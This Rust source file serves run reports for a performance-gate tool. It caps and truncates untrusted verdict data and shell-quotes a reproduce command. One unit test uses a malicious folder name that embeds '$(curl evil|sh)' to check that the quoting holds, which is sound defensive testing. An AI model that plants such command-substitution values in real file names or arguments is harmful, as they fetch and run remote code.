//! The report of a kept run, made when it is asked for, as `report.html` has it. Its files may come from anybody: of a verdict
//! that is longer than any gate writes only the begin of each list is shown. Where runs are kept is not known here.

use std::fs;
use std::path::{Path, PathBuf};

use axum::http::StatusCode;
use axum::http::header::CONTENT_SECURITY_POLICY;
use axum::response::{Html, IntoResponse as _, Response};

use super::page;
use crate::files::{read_capped, shell_word};
use crate::gate::Verdict;
use crate::history::{Compared, History, KeptRun};
use crate::report::page_parts::policy;
use crate::report::{ColorChoice, Context, Format, Look, Subject, page as report_page, render_run};
use crate::run::{Baseline, RUN_FILE_NAME, Run, beside_run_file_name, earlier_run_file_name, load_run};

/// The largest verdict file that is read: 64 MiB.
const VERDICT_CAP: u64 = 64 * 1024 * 1024;
/// So many entries of each list of a verdict are shown, and so many of its findings: 50 for each endpoint that a run may have.
const ENTRIES: usize = 1000;
const FINDINGS: usize = 50_000;
/// So many other loads of one check are shown at most, and so much of their files is read (bytes).
const OTHER_LOADS: usize = 10;
const OTHER_LOADS_BYTES: u64 = 64 * 1024 * 1024;
/// So long may one text be (bytes).
const TEXT: usize = 4000;

/// The report with a way back to all runs. The runs that it was compared with are shown where the history has them.
pub(super) fn answer(history: &History, kept: &KeptRun) -> Response {
    let run = match load_run(&kept.path) {
        Ok(run) => run,
        Err(error) => return page::refused(StatusCode::NOT_FOUND, &error.to_string()),
    };
    let text = match kept.verdict.as_deref().and_then(verdict_of) {
        Some(verdict) => {
            let baseline = compared(history, &verdict, &run);
            let (earlier, beside) = other_loads(&kept.path);
            let context = Context { baseline: baseline.as_ref(), earlier: earlier.iter().collect(), beside: &beside };
            report_page(&Subject { verdict: &verdict, run: &run, reproduce: &again(&kept.path) }, &context)
        }
        None => match render_run(Format::Html, &run, Look { width: 80, color: ColorChoice::Never }) {
            Ok(text) => text,
            Err(error) => return page::refused(StatusCode::INTERNAL_SERVER_ERROR, &error.to_string()),
        },
    };
    let text = text.replacen("<main id=\"main\">", "<main id=\"main\"><p class=\"first\"><a href=\"/\">All runs</a></p>", 1);
    ([(CONTENT_SECURITY_POLICY, format!("{}; frame-ancestors 'none'", policy()))], Html(text)).into_response()
}

/// The loads that were judged with this one, and those of the deployment beside it, as far as they lie beside its file.
fn other_loads(path: &Path) -> (Vec<Run>, Vec<Run>) {
    let Some(folder) = path.parent().filter(|_| path.file_name().is_some_and(|name| name == RUN_FILE_NAME)) else {
        return Default::default();
    };
    let mut room = OTHER_LOADS_BYTES;
    let mut read = |name: fn(usize) -> String| {
        let files = (1..=OTHER_LOADS).map(|number| folder.join(name(number)));
        let fits = |file: &PathBuf| {
            let length = fs::symlink_metadata(file).ok().filter(fs::Metadata::is_file).map(|file| file.len());
            let left = length.and_then(|length| room.checked_sub(length));
            room = left.unwrap_or(room);
            left.is_some()
        };
        files.take_while(fits).map_while(|file| load_run(&file).ok()).collect()
    };
    (read(earlier_run_file_name), read(beside_run_file_name))
}

/// Without them a report has the baseline's value alone.
fn compared(history: &History, verdict: &Verdict, run: &Run) -> Option<Baseline> {
    let told = verdict.baseline.as_ref()?;
    let left_out = told.left_out.iter().filter_map(|text| Some(text.split_once(": ")?.0)).collect();
    history.compared(&Compared { run, jobs: told.runs, oldest: told.oldest?, newest: told.newest?, left_out }).ok()?
}

fn verdict_of(path: &Path) -> Option<Verdict> {
    serde_json::from_slice(&read_capped(path, VERDICT_CAP).ok()?).ok().map(within_reason)
}

/// What the report does with these lists takes longer than they are long.
fn within_reason(mut verdict: Verdict) -> Verdict {
    verdict.reasons.truncate(ENTRIES);
    verdict.self_checks.truncate(ENTRIES);
    verdict.findings.truncate(FINDINGS);
    verdict.run.overrides.truncate(ENTRIES);
    verdict.thresholds.changes.truncate(ENTRIES);
    verdict.thresholds.changes.iter_mut().for_each(|change| shorten(&mut change.text));
    if let Some(baseline) = &mut verdict.baseline {
        baseline.left_out.truncate(ENTRIES);
        baseline.left_out.iter_mut().for_each(shorten);
    }
    verdict.reasons.iter_mut().for_each(|reason| shorten(&mut reason.text));
    verdict.self_checks.iter_mut().for_each(|check| shorten(&mut check.detail));
    verdict.run.overrides.iter_mut().for_each(shorten);
    verdict
}

fn shorten(text: &mut String) {
    if text.len() > TEXT {
        text.truncate((0..=TEXT).rfind(|at| text.is_char_boundary(*at)).unwrap_or_default());
        text.push('…');
    }
}

/// The command that shows it again, from the folder in which this is served; a folder may be called anything.
fn again(run: &Path) -> String {
    let results = run.parent().unwrap_or(run);
    let here = std::env::current_dir().ok();
    let results = here.and_then(|here| results.strip_prefix(here).ok()).unwrap_or(results);
    format!("perfgate report {}", shell_word(&results.display().to_string()))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_command_is_safe_to_copy_whatever_a_folder_is_called() {
        let here = std::env::current_dir().unwrap();
        assert_eq!(again(&here.join("kept/shop 1/run.json")), "perfgate report 'kept/shop 1'");
        assert_eq!(again(Path::new("/kept/$(curl evil|sh)/run.json")), "perfgate report '/kept/$(curl evil|sh)'");
    }

    #[test]
    fn a_text_ends_at_a_character() {
        let mut text = format!("x{}", "é".repeat(TEXT));
        shorten(&mut text);
        assert!(text.len() < TEXT + 4 && text.ends_with("é…"), "{}", text.len());
    }
}
